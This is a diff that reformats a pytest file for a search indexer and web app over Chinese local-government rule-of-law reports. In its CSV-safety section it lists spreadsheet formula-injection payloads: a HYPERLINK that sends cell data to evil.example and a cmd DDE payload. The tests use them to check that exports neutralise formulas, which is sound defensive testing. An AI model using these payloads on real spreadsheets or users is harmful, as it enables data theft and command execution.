@@ -33,8 +33,9 @@ QUERIES = ["法治", "法律明白人", "调解", "依法行政", "普法", "乡
 def run_cli(*args: str, env_code: str = "pass") -> subprocess.Popen:
     """The CLI in its own process (env_code runs first, e.g. to make analysis chunks small)."""
     code = f"import sys; {env_code}; from indexer.cli import main; sys.exit(main(sys.argv[1:]))"
-    return subprocess.Popen([PYTHON, "-c", code, *args], cwd=ROOT, stdout=subprocess.PIPE,
-                            stderr=subprocess.PIPE, text=True)
+    return subprocess.Popen(
+        [PYTHON, "-c", code, *args], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
+    )
 
 
 def index_state(index_dir: Path) -> tuple:
@@ -45,6 +46,7 @@ def index_state(index_dir: Path) -> tuple:
 
 
 # -- 1. Builds at once ---------------------------------------------------------------------------
+
 
 def test_builds_at_once_leave_the_index_a_single_build_makes(data_dir, tmp_path):
     build(data_dir, tmp_path / "single")
@@ -103,8 +105,14 @@ def test_a_build_killed_while_its_workers_run_leaves_no_traceback_and_the_old_in
     build(data_dir, index_dir)
     before = current_generation(index_dir)
     # Small analysis chunks make the build hand work to its two worker processes.
-    proc = run_cli("build", "--data", str(data_dir), "--index", str(index_dir),
-                   env_code="import indexer.engine.build as b; b.CHUNK = 5")
+    proc = run_cli(
+        "build",
+        "--data",
+        str(data_dir),
+        "--index",
+        str(index_dir),
+        env_code="import indexer.engine.build as b; b.CHUNK = 5",
+    )
     deadline = time.time() + 60
     while not _children(proc.pid) and proc.poll() is None and time.time() < deadline:
         time.sleep(0.005)
@@ -122,6 +130,7 @@ def test_a_build_killed_while_its_workers_run_leaves_no_traceback_and_the_old_in
 
 
 # -- 2. The data folder's boundary ---------------------------------------------------------------
+
 
 def test_links_out_of_the_data_folder_are_named_and_not_indexed(data_dir, tmp_path):
     outside = tmp_path / "secret"
@@ -172,21 +181,21 @@ def test_an_unreadable_subfolder_is_named_and_the_rest_indexed(data_dir, open_di
 
 # -- 3. CSV that a spreadsheet opens safely ------------------------------------------------------
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)"]
 
 
 @pytest.fixture()
 def formula_client(data_dir, tmp_path):
     body = "\n".join(f"{f}法律明白人公式测试。" for f in FORMULAS)
     (data_dir / "formula.txt").write_text(
-        "甘肃省兰州市永登县城关镇2023年法治政府建设工作报告\n" + body + "\n", encoding="utf-8")
+        "甘肃省兰州市永登县城关镇2023年法治政府建设工作报告\n" + body + "\n", encoding="utf-8"
+    )
     build(data_dir, tmp_path / "index")
     return create_app({"INDEX_DIR": tmp_path / "index"}).test_client()
 
 
 def test_csv_cells_that_start_a_formula_are_neutralised(formula_client):
-    response = formula_client.get("/export.csv", query_string={"q": "公式测试"},
-                                  base_url="https://search.example.org")
+    response = formula_client.get("/export.csv", query_string={"q": "公式测试"}, base_url="https://search.example.org")
     assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # charset once
     rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
     assert sorted(r["text"] for r in rows) == sorted(f"'{f}法律明白人公式测试。" for f in FORMULAS)
@@ -197,21 +206,36 @@ def test_csv_cells_that_start_a_formula_are_neutralised(formula_client):
     assert "=HYPERLINK(" in formula_client.get("/search", query_string={"q": "公式测试"}).get_data(as_text=True)
 
 
-@pytest.mark.parametrize("value, safe", [
-    ("=1+1", "'=1+1"), ("+86 10", "'+86 10"), ("-x", "'-x"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
-    ("法治=1", "法治=1"), ("", ""), (2023, 2023), (-1.5, -1.5),
-])
+@pytest.mark.parametrize(
+    "value, safe",
+    [
+        ("=1+1", "'=1+1"),
+        ("+86 10", "'+86 10"),
+        ("-x", "'-x"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("法治=1", "法治=1"),
+        ("", ""),
+        (2023, 2023),
+        (-1.5, -1.5),
+    ],
+)
 def test_spreadsheet_safe_prefixes_only_text_that_starts_a_formula(value, safe):
     assert spreadsheet_safe(value) == safe
 
 
 # -- 4. One line for every CLI error ------------------------------------------------------------
 
-@pytest.mark.parametrize("command", [
-    ["build", "--index", "README.md"],
-    ["reports", "--index", "README.md"],
-    ["search", "法治", "--index", "README.md"],
-])
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["build", "--index", "README.md"],
+        ["reports", "--index", "README.md"],
+        ["search", "法治", "--index", "README.md"],
+    ],
+)
 def test_an_index_path_that_is_a_file_is_one_line(command):
     proc = subprocess.run([PYTHON, "-m", "indexer", *command], cwd=ROOT, capture_output=True, text=True)
     assert proc.returncode == 2
@@ -249,12 +273,18 @@ def test_an_unreadable_manifest_is_one_line(data_dir, open_dir, capsys):
 
 
 def test_a_closed_pipe_ends_search_quietly(index_dir):
-    proc = subprocess.run(f"{PYTHON} -m indexer search 法 --all --index {index_dir} | head -c 10",
-                          shell=True, cwd=ROOT, capture_output=True, text=True)
+    proc = subprocess.run(
+        f"{PYTHON} -m indexer search 法 --all --index {index_dir} | head -c 10",
+        shell=True,
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+    )
     assert proc.stderr == "" and len(proc.stdout) == 10
 
 
 # -- 5 and 6. The site: unreadable files, headers, no server paths --------------------------------
+
 
 def test_an_unreadable_source_copy_is_a_503_with_a_message(data_dir, open_dir):
     index_dir = open_dir / "index"
@@ -274,9 +304,23 @@ def test_an_unreadable_source_copy_is_a_503_with_a_message(data_dir, open_dir):
     assert str(open_dir) not in html
 
 
-@pytest.mark.parametrize("url", ["/search?q=法治", "/search", "/compare?q=法治", "/reports", "/api/search?q=法治",
-                                 "/api/reports", "/export.csv?q=法治", "/static/style.css", "/nowhere",
-                                 "/api/nowhere", "/search?year=abc", "/reports/none"])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/search?q=法治",
+        "/search",
+        "/compare?q=法治",
+        "/reports",
+        "/api/search?q=法治",
+        "/api/reports",
+        "/export.csv?q=法治",
+        "/static/style.css",
+        "/nowhere",
+        "/api/nowhere",
+        "/search?year=abc",
+        "/reports/none",
+    ],
+)
 def test_every_response_carries_the_hardening_headers(client, url):
     response = client.get(url)
     assert response.headers["X-Content-Type-Options"] == "nosniff"
@@ -300,6 +344,7 @@ def test_a_broken_index_page_shows_no_server_path(data_dir, tmp_path):
 
 
 # -- 7. Bounded work per request -----------------------------------------------------------------
+
 
 def test_compare_counts_every_hit_but_shows_a_few_lines_per_township(index_dir, index):
     client = create_app({"INDEX_DIR": index_dir, "KWIC_PER_TOWNSHIP": 2}).test_client()
@@ -373,7 +418,10 @@ def test_a_long_report_page_is_paged_and_hits_link_to_their_page(long_report):
     hits = client.get("/api/search", query_string={"q": "编号2100。"}).get_json()["hits"]
     assert [h["url"] for h in hits] == [f"/reports/{rid}?page=3#p2100"]
     marked = client.get(f"/reports/{rid}", query_string={"q": "编号2100。"}).get_data(as_text=True)
-    assert "1 个段落包含" in marked and f'href="/reports/{rid}?q=%E7%BC%96%E5%8F%B72100%E3%80%82&amp;page=3#p2100"' in marked
+    assert (
+        "1 个段落包含" in marked
+        and f'href="/reports/{rid}?q=%E7%BC%96%E5%8F%B72100%E3%80%82&amp;page=3#p2100"' in marked
+    )
 
 
 def test_the_report_api_pages_through_a_long_report(long_report):
@@ -414,6 +462,7 @@ def test_queue_depth_lines_are_thinned_to_one_per_interval():
 
 def test_the_server_thins_the_logger_waitress_writes_queue_lines_to():
     from waitress.task import ThreadedTaskDispatcher
+
     throttle = throttle_queue_log()
     assert throttle in ThreadedTaskDispatcher.queue_logger.filters
     assert throttle_queue_log() is throttle  # once, however often the server starts
